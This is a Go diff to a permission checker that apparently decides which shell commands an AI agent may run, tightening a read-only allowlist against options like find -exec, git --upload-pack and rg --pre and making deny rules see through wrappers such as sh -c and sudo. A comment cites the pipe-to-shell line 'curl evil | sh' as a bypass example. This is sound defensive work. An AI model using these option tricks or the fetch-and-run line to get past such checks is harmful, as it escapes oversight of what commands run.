@@ -17,20 +17,51 @@ var SystemCommands = []string{"pwd", "ls", "rg", "grep", "find", "sort", "cat", 
 	"file", "uname", "whoami", "date", "git status", "git diff", "git show", "git log", "git rev-parse",
 	"git ls-files", "git grep"}
 
-// writingFlags make an otherwise read-only command write files or run
-// other programs.
-var writingFlags = map[string][]string{
-	"find": {"-exec", "-execdir", "-ok", "-okdir", "-delete", "-fprint", "-fprint0", "-fprintf", "-fls"},
-	"sort": {"-o", "--output"},
-	"git":  {"--output", "-o", "--ext-diff", "--textconv"},
-	"rg":   {"--pre"},
+// writingOptions make an otherwise read-only command write files, run
+// other programs or change the system. Long options match with or without
+// "=value"; short ones also bundled ("-uo") or with the value attached
+// ("-oFILE").
+var writingOptions = map[string]struct{ long, short []string }{
+	"find": {long: []string{"-exec", "-execdir", "-ok", "-okdir", "-delete", "-fprint", "-fprint0", "-fprintf", "-fls"}},
+	"sort": {long: []string{"--output", "--compress-program"}, short: []string{"o"}},
+	"git":  {long: []string{"--output", "--ext-diff", "--textconv", "--open-files-in-pager", "--exec-path", "--upload-pack", "--config-env"}, short: []string{"o", "O", "c"}},
+	"rg":   {long: []string{"--pre", "--hostname-bin", "--search-zip"}, short: []string{"z"}},
+	"file": {long: []string{"--compile"}, short: []string{"C"}},
+	"date": {long: []string{"--set"}, short: []string{"s"}},
+	"grep": {long: []string{"--devices"}},
+}
+
+// writes reports whether word is one of the command's writing options.
+func writes(name, word string) bool {
+	o := writingOptions[name]
+	if strings.HasPrefix(word, "--") {
+		for _, l := range o.long {
+			if word == l || strings.HasPrefix(word, l+"=") {
+				return true
+			}
+		}
+		return false
+	}
+	if strings.HasPrefix(word, "-") {
+		for _, l := range o.long { // find's single-dash long options
+			if word == l {
+				return true
+			}
+		}
+		for _, sh := range o.short {
+			if strings.Contains(word[1:], sh) {
+				return true
+			}
+		}
+	}
+	return false
 }
 
 // compiledRule is a Rule with its layer.
 type compiledRule struct {
 	Rule
 	layer string
-	glob  urlRule // CommandGlob compiled with the same * ? \* syntax
+	glob  glob // CommandGlob, with the same * ? \* syntax as URL rules
 }
 
 func (r compiledRule) text() string {
@@ -43,26 +74,29 @@ func (r compiledRule) text() string {
 	return "{" + strings.Join(parts, ", ") + "}"
 }
 
-// segment is one command of a shell line, normalised.
+// segment is one program a shell line runs, normalised. Deny rules match
+// it by the program's base name (a rule for rm also stops /bin/rm); allow
+// rules and the built-in list only as written (./ls is not ls).
 type segment struct {
-	words []string
-	text  string
-	redir bool // has an output redirection
+	words, base []string
+	text, btext string
+	redir       bool // has an output redirection
 }
 
+// segments are every program the line runs, found the way the skills'
+// exec check finds them (inside sh -c, eval, env, sudo, xargs, find -exec
+// and other wrappers), each named by its base name: a rule for "rm" also
+// covers "/bin/rm", "env rm" and "sh -c 'rm -rf x'".
 func segments(line string) ([]segment, error) {
-	cmds, err := policyengine.SplitCommandLine(line)
+	invs, err := policyengine.Invocations(line)
 	if err != nil {
 		return nil, err
 	}
 	var out []segment
-	for _, c := range cmds {
-		if c.Program == "" {
-			continue
-		}
-		words := append([]string{c.Program}, c.Args...)
-		s := segment{words: words, text: strings.Join(words, " ")}
-		for _, r := range c.Redirects {
+	for _, inv := range invs {
+		base := append([]string{inv.Name}, inv.Words[1:]...)
+		s := segment{words: inv.Words, base: base, text: strings.Join(inv.Words, " "), btext: strings.Join(base, " ")}
+		for _, r := range inv.Redirects {
 			if r.Op != "<" && r.Op != "<<" && r.Op != "<<<" && r.Op != "<&" {
 				s.redir = true
 			}
@@ -77,19 +111,24 @@ func segments(line string) ([]segment, error) {
 
 // matches reports whether the rule matches the segment (or the whole
 // line, for command_glob) of a use of tool.
-func (r compiledRule) matches(tool string, seg *segment, line string, skills []string) bool {
+// matches reports whether the rule matches the segment of a use of tool;
+// wholeLine lets a command_glob match the whole line too (deny rules only:
+// an allow glob over the line would let every segment of "git log && curl
+// evil | sh" through).
+func (r compiledRule) matches(tool string, seg *segment, line string, skills []string, wholeLine bool) bool {
 	if r.Tool != "" && r.Tool != tool {
 		return false
 	}
 	if r.SkillName != "" && !slices.Contains(skills, r.SkillName) {
 		return false
 	}
+	words, text := seg.wordsFor(wholeLine)
 	if r.Command != "" {
 		if seg == nil {
 			return false
 		}
 		want := strings.Fields(r.Command)
-		if len(seg.words) < len(want) || !slices.Equal(seg.words[:len(want)], want) {
+		if len(words) < len(want) || !slices.Equal(words[:len(want)], want) {
 			return false
 		}
 	}
@@ -97,11 +136,23 @@ func (r compiledRule) matches(tool string, seg *segment, line string, skills []s
 		if seg == nil {
 			return false
 		}
-		if !globMatch(r.glob.glob, r.glob.escape, []rune(seg.text)) && !globMatch(r.glob.glob, r.glob.escape, []rune(line)) {
+		if !r.glob.match(text) && !(wholeLine && r.glob.match(line)) {
 			return false
 		}
 	}
 	return true
+}
+
+// wordsFor are the words a rule matches: by base name for deny rules
+// (deny is true), as written for allow rules.
+func (s *segment) wordsFor(deny bool) ([]string, string) {
+	if s == nil {
+		return nil, ""
+	}
+	if deny {
+		return s.base, s.btext
+	}
+	return s.words, s.text
 }
 
 // readOnly reports whether the built-in allowlist covers the segment.
@@ -116,10 +167,8 @@ func readOnly(seg segment) bool {
 		return false
 	}
 	for _, w := range seg.words[1:] {
-		for _, f := range writingFlags[name] {
-			if w == f || strings.HasPrefix(w, f+"=") {
-				return false
-			}
+		if writes(name, w) {
+			return false
 		}
 	}
 	return true
@@ -136,20 +185,23 @@ func decideCommand(allow, deny []compiledRule, tool, line string, skills []strin
 	norm := strings.Join(strings.Fields(line), " ")
 	for i := range segs {
 		for _, r := range deny {
-			if r.matches(tool, &segs[i], norm, skills) {
+			if r.matches(tool, &segs[i], norm, skills, true) {
 				return policyengine.Decision{Action: policyengine.Deny, Rule: "permissions.deny " + r.text(), Layer: r.layer,
 					Reason: fmt.Sprintf("%q is denied by the %s policy's rule %s", segs[i].text, r.layer, r.text())}
 			}
 		}
 	}
 	var unsure []string
-	var by []string
+	var by, layers []string
 	for i := range segs {
 		ok := false
 		for _, r := range allow {
-			if r.matches(tool, &segs[i], norm, skills) {
+			if r.matches(tool, &segs[i], norm, skills, false) {
 				ok = true
 				by = append(by, r.text())
+				if !slices.Contains(layers, r.layer) {
+					layers = append(layers, r.layer)
+				}
 				break
 			}
 		}
@@ -163,23 +215,27 @@ func decideCommand(allow, deny []compiledRule, tool, line string, skills []strin
 	}
 	if len(unsure) > 0 {
 		suggest, _ := RememberCommands(unsure[0])
+		hint := "ask the user"
+		if len(suggest) > 0 {
+			hint += fmt.Sprintf(", or add {command: %q} to permissions.allow", suggest[0])
+		}
 		return policyengine.Decision{Action: policyengine.Confirm,
-			Reason: fmt.Sprintf("no rule allows %q: ask the user, or add {command: %q} to permissions.allow", strings.Join(unsure, "; "), strings.Join(suggest, " "))}
+			Reason: fmt.Sprintf("no rule allows %q: %s", strings.Join(unsure, "; "), hint)}
 	}
-	return policyengine.Decision{Action: policyengine.Allow, Rule: strings.Join(by, "; "),
+	return policyengine.Decision{Action: policyengine.Allow, Rule: strings.Join(by, "; "), Layer: strings.Join(layers, ", "),
 		Reason: fmt.Sprintf("every command of %q is allowed (%s)", norm, strings.Join(by, "; "))}
 }
 
 // decideTool applies the rules to a tool used without a command line.
 func decideTool(allow, deny []compiledRule, tool string, skills []string) policyengine.Decision {
 	for _, r := range deny {
-		if r.Command == "" && r.CommandGlob == "" && r.matches(tool, nil, "", skills) {
+		if r.Command == "" && r.CommandGlob == "" && r.matches(tool, nil, "", skills, false) {
 			return policyengine.Decision{Action: policyengine.Deny, Rule: "permissions.deny " + r.text(), Layer: r.layer,
 				Reason: fmt.Sprintf("tool %s is denied by the %s policy's rule %s", tool, r.layer, r.text())}
 		}
 	}
 	for _, r := range allow {
-		if r.Command == "" && r.CommandGlob == "" && r.matches(tool, nil, "", skills) {
+		if r.Command == "" && r.CommandGlob == "" && r.matches(tool, nil, "", skills, false) {
 			return policyengine.Decision{Action: policyengine.Allow, Rule: "permissions.allow " + r.text(), Layer: r.layer,
 				Reason: fmt.Sprintf("tool %s is allowed by the %s policy's rule %s", tool, r.layer, r.text())}
 		}
